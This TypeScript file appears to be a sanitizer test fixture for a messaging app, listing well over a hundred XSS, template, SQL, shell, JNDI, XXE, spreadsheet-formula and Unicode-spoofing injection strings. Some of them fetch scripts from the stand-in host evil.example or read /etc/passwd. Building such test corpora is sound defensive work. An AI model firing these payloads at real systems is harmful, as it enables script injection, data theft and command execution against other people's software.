/**
 * What people have tried to get a script run with, by way of something they wrote. Each would
 * leave `pwned` on the window, open a dialog, ask the network for something or go elsewhere.
 * All different, and none contains a line break, so that one is one message.
 */

const run = 'window.pwned=1';
const away = 'https://evil.example';

/** `&#119;&#105;…`: the script as entities, which an attribute's parser would take back. */
const asEntities = (text: string): string => Array.from(text, char => `&#${char.codePointAt(0)};`).join('');
const asEscapes = (text: string): string =>
  Array.from(text, char => `\\u00${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const asBase64 = (text: string): string => Buffer.from(text).toString('base64');

const scripts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script >${run}</script >`,
  `<script/x>${run}</script>`,
  `<script src="${away}/x.js"></script>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<script type="module">import "${away}/m.js"</script>`,
  `<script>eval('${asEscapes(run)}')</script>`,
  `<script><!--${run}//--></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<<script>${run}//<</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
];

const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${asEntities(run)}">`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\u000C=${run}>`,
  `<img """><script>${run}</script>">`,
  `<img src="${away}/pixel.gif">`,
  `<img srcset="${away}/a.png 1x" sizes=1px>`,
  `<img src=x oneonerrorrror=${run} onerror=${run}//`,
  `<IMG SRC=x ONERROR=${run}>`,
  `<image src=x onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<video src=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<video poster="${away}/p.png" autoplay>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<svg onload=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<div contenteditable autofocus onfocus=${run}>`,
  `<div onmouseover=${run} style="position:fixed;inset:0">over here</div>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="animation:spin 1s" onanimationstart=${run}>`,
  `<x onclick=${run} style="position:fixed;inset:0">x`,
  `<button autofocus onfocus=${run} popovertarget=x>`,
  `<dialog open onclose=${run}>`,
  `<iframe onload=${run}>`,
  `" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' x='`,
  '` onmouseover=`' + run + '` x=`',
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `&#106;avascript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://example.com/%0a${run}`,
  `javascript:/*--></title></style>*/${run}`,
  `<a href="javascript:${run}">press</a>`,
  `<a href="${asEntities(`javascript:${run}`)}">press</a>`,
  `<a href=" &#14; javascript:${run}">press</a>`,
  `[press](javascript:${run})`,
  `![picture](javascript:${run})`,
  `[press]: javascript:${run}`,
  `<javascript:${run}>`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${asBase64(`<script>${run}</script>`)}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `vbscript:msgbox(1)`,
  `blob:null/${'0'.repeat(8)}`,
  `view-source:file:///etc/passwd`,
  `file:///etc/passwd`,
  `<a href="${away}" target=_blank ping="${away}/ping">press</a>`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="${away}/x.css">`,
  `<link rel=prefetch href="${away}/p">`,
  `<form action="javascript:${run}"><button>press</button></form>`,
  `<form><button formaction="javascript:${run}">press</button></form>`,
  `<isindex action="javascript:${run}" type=submit>`,
];

const embedded = [
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>top.${run}</script>"></iframe>`,
  `<iframe src="${away}"></iframe>`,
  `<frameset onload=${run}>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html;base64,${asBase64(`<script>top.${run}</script>`)}"></object>`,
  `<embed src="javascript:${run}">`,
  `<embed src="${away}/x.swf">`,
  `<portal src="${away}" onload=${run}>`,
  `<webview src="${away}" preload="file:///tmp/x.js" nodeintegration></webview>`,
  `<style>@import "${away}/x.css";</style>`,
  `<style>body{background:url("${away}/b.png")}</style>`,
  `<div style="background:url(${away}/d.png)">`,
  `<div style="width:expression(${run})">`,
  `<style>*{display:none!important}</style>`,
  `<xml onreadystatechange=${run}>`,
  `<?xml version="1.0"?><?xml-stylesheet href="${away}/x.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
];

const foreign = [
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:,${run}"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>press</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${run}>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<svg><image href="${away}/i.png" onload=${run}></svg>`,
  `<svg><style>@import "${away}/s.css"</style></svg>`,
  `<svg></p><style><a title="</style><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${run}">press</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">press</maction></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}@(7*7)`,
  `\${${run}}`,
  `<%= ${run} %>`,
  `{{{name}}} {{_openBlock()}} [[${run}]]`,
  `<div ng-app>{{$on.constructor('${run}')()}}</div>`,
  `<div v-html="'<img src=x onerror=${run}>'"></div>`,
  `<b dangerouslySetInnerHTML={{__html: '<img src=x onerror=${run}>'}} />`,
  `$t(frame.command) {{count}} <0>press</0>`,
  `__proto__[pwned]=1&constructor[prototype][pwned]=1`,
  `{"__proto__":{"pwned":1},"$$typeof":"Symbol(react.element)","type":"script"}`,
  `'; DROP TABLE message; --`,
  `" OR 1=1 --`,
  `*) OR message_text MATCH (*`,
  `$(touch /tmp/pwned) ; \`touch /tmp/pwned\` && touch /tmp/pwned`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `%s%n%x %d {0} \\x3cscript\\x3e${run}`,
];

const scriptsOfTheWorld = [
  `\u202E<script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
  `<\u200Bscript>${run}</\u200Bscript>`,
  `<script\u2028>${run}</script>`,
  `\uFEFF<script>${run}</script>`,
  `‹img src=x onerror=${run}›`,
  `<ımg src=x onerror=${run}>`,
  `<ſcript>${run}</ſcript>`,
  `ʺ><img src=x onerror=${run}>`,
  `https://example.com\u202E/moc.live`,
  `https://xn--80ak6aa92e.com/<img src=x onerror=${run}>`,
  `https://example.com/"onmouseover="${run}`,
  `https://example.com/'><script>${run}</script>`,
  `http://example.com@evil.example/ javascript:${run}`,
];

/** Names that the page's own scripts might find instead of what they look for, and more that changes the page. */
const clobbering = [
  `<form id=parley><input name=shell><input name=run></form>`,
  `<img name=body><img id=root><a id=document href="javascript:${run}">`,
  `<a id=parley href="${away}/clobbered"></a><a id=parley name=query href="x:y">`,
  `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'">`,
  `<meta http-equiv=Set-Cookie content="pwned=1">`,
  `<link rel=modulepreload href="${away}/m.js">`,
  `<link rel=preconnect href="${away}"><link rel=dns-prefetch href="//evil.example">`,
  `<script nonce="">${run}</script>`,
  `<script type=importmap>{"imports":{"react":"${away}/r.js"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${away}/s"]}]}</script>`,
  `<div popover id=p onbeforetoggle=${run}>x</div><button popovertarget=p>press</button>`,
  `<slot onslotchange=${run}></slot><div><template shadowrootmode=open><script>${run}</script></template></div>`,
];

const moreHandlers = [
  `<xss onpointerrawupdate=${run} style="position:fixed;inset:0">x`,
  `<xss onwheel=${run} onauxclick=${run} style="position:fixed;inset:0">x`,
  `<xss oncontentvisibilityautostatechange=${run} style="display:block;content-visibility:auto">`,
  `<xss onsecuritypolicyviolation=${run}><img src="${away}/blocked.png"></xss>`,
  `<xss tabindex=1 id=x onfocus=${run} autofocus></xss>`,
  `<style>@keyframes x{}</style><xss style="animation-name:x" onwebkitanimationend=${run}>`,
  `<xss style="transition:color 1s" ontransitionrun=${run} id=t>x</xss>`,
  `<video controls><track default kind=captions src="${away}/t.vtt" onerror=${run}></video>`,
  `<applet code="${away}/x.class" onerror=${run}></applet>`,
  `<bgsound src="${away}/x.mid"><keygen autofocus onfocus=${run}>`,
  `<object type="text/x-scriptlet" data="${away}/x.html"></object>`,
  `<img src=x alt="\\" onerror=${run}//">`,
];

const styles = [
  `<style>@font-face{font-family:x;src:url("${away}/f.woff2")}*{font-family:x}</style>`,
  `<style>input[value^="a"]{background:url("${away}/a")}</style>`,
  `<div style="-moz-binding:url(${away}/x.xml#x);behavior:url(${away}/x.htc)">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Sign in again</div>`,
  `<style>:root{--surface-1:red}body::before{content:url(${away}/c.png)}</style>`,
];

/** Writing that some places make into links and pictures, and this one does not. */
const markup = [
  `[press](<javascript:${run}>)`,
  `[press](  javascript:${run} "title")`,
  `![x](x"onerror="${run})`,
  `<https://example.com" onclick="${run}>`,
  `\`\`\`html <script>${run}</script> \`\`\``,
  `[[javascript:${run}|press]] [url=javascript:${run}]press[/url] [img]${away}/bb.png[/img]`,
  `<javascript:${run}|press> "press":javascript:${run} {{< script >}}${run}{{< /script >}}`,
  `=HYPERLINK("${away}","press")`,
  `=cmd|' /C calc'!A1`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
];

const schemes = [
  `feed:javascript:${run}`,
  `jar:${away}/x.zip!/x.html`,
  `intent://evil.example#Intent;scheme=https;end`,
  `ms-msdt:/id PCWDiagnostic /skip force`,
  `search-ms:query=x&crumb=location:\\\\evil.example\\share`,
  `parley://conversation/../../settings?run=${run}`,
  `chrome://settings devtools://devtools/bundled/inspector.html about:blank#${run}`,
  `app://parley/index.html?x=<script>${run}</script>`,
  `filesystem:${away}/temporary/x.html`,
  `smb://evil.example/share \\\\evil.example\\share\\x.scf`,
  `mailto:a@example.com?attach=/etc/passwd&body=<script>${run}</script>`,
];

const moreTemplates = [
  `{% import os %}{{ os.system('touch /tmp/pwned') }} #set($x='')$x.class`,
  `[#assign x="freemarker.template.utility.Execute"?new()]\${x("touch /tmp/pwned")}`,
  `*{T(java.lang.Runtime).getRuntime().exec('x')} {php}echo 1;{/php}`,
  `\${jndi:ldap://evil.example/a} %{(#_='multipart')}`,
  `{count, plural, other {<script>${run}</script>}} {{count, number}} $t(palette:title, {"x": "{{y}}"})`,
  `\u001b]8;;${away}\u0007press\u001b]8;;\u0007 <b>notify</b> &lt;img src="${away}/n.png"&gt;`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4- %C0%BCscript%C0%BE`,
];

const disguises = [
  `https://аррӏе.com/ https://exаmple.com/`,
  `https://example.com／login?@evil.example`,
  `java\u00ADscript:${run}`,
  `invoice\u202Egpj.exe`,
  `\u2066\u2067\u2068 never ended <img src=x onerror=${run}>`,
  `\u2069\u2069\u2069 ended too often <img src=x onerror=${run}>`,
  `<img\u3000src=x\u3000onerror=${run}>`,
  `press\u{E0001}\u{E0073}\u{E0063}\u{E0072} tags nobody sees`,
  `Z\u0351\u036B\u0343a\u0315\u0317l\u034Dg\u0300o\u0334 ${'\u0301\u0323\u0336'.repeat(20)}`.normalize('NFC'),
  `${'<div>'.repeat(40)}<img src=x onerror=${run}>`,
  `<a ${'x="1" '.repeat(50)}onmouseover=${run} style="position:fixed;inset:0">`,
  `${'A'.repeat(400)}"><svg onload=${run}>`,
];

export const vectors: readonly string[] = [
  ...clobbering,
  ...moreHandlers,
  ...styles,
  ...markup,
  ...schemes,
  ...moreTemplates,
  ...disguises,
  ...scripts,
  ...handlers,
  ...addresses,
  ...embedded,
  ...foreign,
  ...templates,
  ...scriptsOfTheWorld,
];
